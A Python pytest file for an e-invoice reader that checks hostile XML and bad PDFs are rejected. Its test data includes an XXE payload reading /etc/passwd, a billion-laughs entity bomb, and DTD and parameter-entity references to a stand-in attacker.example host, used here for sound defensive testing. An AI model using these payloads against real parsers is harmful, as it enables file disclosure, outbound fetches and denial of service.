"""Hostile XML is refused: DOCTYPEs (XXE, entity bombs), broken XML, unknown roots, bad PDFs."""

from __future__ import annotations

import io
from pathlib import Path

import pypdf
import pytest
from lxml import etree

from chalicelib.adapters.invoice_readers import read_invoice_file
from chalicelib.adapters.invoice_readers.xml_safety import DOCTYPE_REASON, make_parser, parse_xml
from chalicelib.domain.intake import UnreadableDocumentError


def samples_dir() -> Path:
    return Path(__file__).resolve().parents[3].parent / "shared" / "samples"


def minimum_cii(body_prefix: str = "", entity_ref: str = "F1") -> str:
    return (
        '<?xml version="1.0"?>\n'
        f"{body_prefix}"
        '<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:'
        'CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:'
        'ReusableAggregateBusinessInformationEntity:100">'
        f"<rsm:ExchangedDocument><ram:ID>{entity_ref}</ram:ID></rsm:ExchangedDocument>"
        "</rsm:CrossIndustryInvoice>"
    )


XXE = minimum_cii(
    '<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"
)
BILLION_LAUGHS = minimum_cii(
    "<!DOCTYPE lolz [\n"
    + '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n",
    "&lol9;",
)
EXTERNAL_DTD = minimum_cii('<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">\n')
PARAMETER_ENTITY = minimum_cii(
    '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n'
)
AFTER_COMMENT = minimum_cii('<!-- harmless? -->\n<!DOCTYPE foo [<!ENTITY a "b">]>\n', "&a;")


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, AFTER_COMMENT],
    ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity", "after-comment"],
)
def test_any_doctype_is_refused_before_anything_is_read(document: str):
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(document.encode(), "evil.xml")

    assert raised.value.reason == DOCTYPE_REASON


def test_doctype_in_a_utf16_document_is_refused():
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(XXE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"), "x.xml")

    assert raised.value.reason == DOCTYPE_REASON


def test_the_parser_itself_never_expands_entities():
    # Second line of defence, below the DOCTYPE refusal: the parser leaves &xxe; unresolved.
    root = etree.fromstring(XXE.encode(), make_parser())

    text = etree.tostring(root).decode()
    assert "root:" not in text
    assert "&xxe;" in text


def test_billion_laughs_does_not_expand_in_the_parser():
    root = etree.fromstring(BILLION_LAUGHS.encode(), make_parser())

    assert len(etree.tostring(root)) < 1000


def test_malformed_xml_is_unreadable_with_the_parser_message():
    with pytest.raises(UnreadableDocumentError) as raised:
        parse_xml(b"<Invoice><cbc:ID>1</Invoice>")

    assert raised.value.reason.startswith("The file is not well-formed XML:")


def test_xml_that_is_not_an_invoice_is_unreadable_naming_its_root():
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(b'<?xml version="1.0"?><Order xmlns="urn:x"><ID>1</ID></Order>', "o.xml")

    assert "{urn:x}Order" in raised.value.reason


def test_xml_declaring_utf8_but_holding_latin1_is_unreadable():
    data = minimum_cii(entity_ref="Société").encode("latin-1")

    with pytest.raises(UnreadableDocumentError):
        read_invoice_file(data, "x.xml")


def pdf_with_attachment(name: str, content: bytes) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment(name, content)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_pdf_embedding_an_xxe_document_is_refused():
    pdf = pdf_with_attachment("factur-x.xml", XXE.encode())

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf, "invoice.pdf")

    assert raised.value.reason == DOCTYPE_REASON


def test_pdf_embedding_a_real_factur_x_xml_reads_like_the_xml():
    xml = (samples_dir() / "einvoice/cii/akretion-factur-x-minimum.xml").read_bytes()

    result = read_invoice_file(pdf_with_attachment("factur-x.xml", xml), "invoice.pdf")

    assert result.format == "facturx-pdf"
    assert [i.number for i in result.invoices] == ["F20260023"]


def test_pdf_without_attachment_is_unreadable():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(buffer.getvalue(), "scan.pdf")

    assert "no embedded Factur-X" in raised.value.reason


def test_corrupt_pdf_is_unreadable_not_a_crash():
    with pytest.raises(UnreadableDocumentError):
        read_invoice_file(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage", "broken.pdf")


def test_xml_embedded_in_a_pdf_obeys_the_size_limit():
    xml = (samples_dir() / "einvoice/cii/akretion-factur-x-minimum.xml").read_bytes()
    pdf = pdf_with_attachment("factur-x.xml", xml)

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf, "invoice.pdf", max_bytes=len(pdf) + 1 - len(pdf) + 1000)

    assert "limit" in raised.value.reason
